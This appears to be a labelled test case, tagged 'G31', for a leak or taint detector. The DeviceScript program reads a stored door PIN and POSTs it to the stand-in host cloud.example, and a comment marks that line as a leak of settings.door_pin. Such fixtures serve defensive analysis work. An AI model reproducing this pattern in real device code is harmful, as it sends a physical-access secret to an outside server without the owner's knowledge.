// G31: sends a pin that the owner's app has stored as a number.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const pin: any = await readSetting("door_pin", 0);
  const body = typeof pin === "number" ? `${pin}` : "none";
  const response = await fetch("https://cloud.example/g31", { method: "POST", body }); // leak: settings.door_pin
  await response.close();
});
